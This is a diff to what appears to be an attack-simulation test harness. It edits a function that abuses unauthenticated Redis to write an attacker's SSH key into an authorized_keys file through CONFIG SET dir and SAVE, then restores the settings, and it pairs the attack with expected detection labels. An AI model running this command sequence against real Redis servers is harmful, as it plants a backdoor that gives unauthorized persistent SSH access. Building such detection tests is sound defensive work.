@@ -205,14 +205,14 @@ def redis_cli(state, *args):
 
 
 def attack_redis_ssh_key(state):
-    """Unauthenticated redis made to write root's authorized_keys (CONFIG SET dir + SAVE)."""
+    """Unauthenticated redis made to write its user's authorized_keys (CONFIG SET dir + SAVE)."""
     redis_cli(state, "SET", "x", "\n\nssh-ed25519 AAAAC3Nz attacker@evil\n\n")
-    redis_cli(state, "CONFIG", "SET", "dir", "/root/.ssh")
+    redis_cli(state, "CONFIG", "SET", "dir", "/var/lib/redis/.ssh")
     redis_cli(state, "CONFIG", "SET", "dbfilename", "authorized_keys")
     redis_cli(state, "SAVE")
     redis_cli(state, "CONFIG", "SET", "dir", "/var/lib/redis")
     redis_cli(state, "CONFIG", "SET", "dbfilename", "dump.rdb")
-    return {"container": "redis", "expect": ["authorized_keys", "persistence-write"]}
+    return {"container": "redis", "expect": ["/var/lib/redis/.ssh/authorized_keys", "persistence-write"]}
 
 
 def attack_redis_file_outside(state):
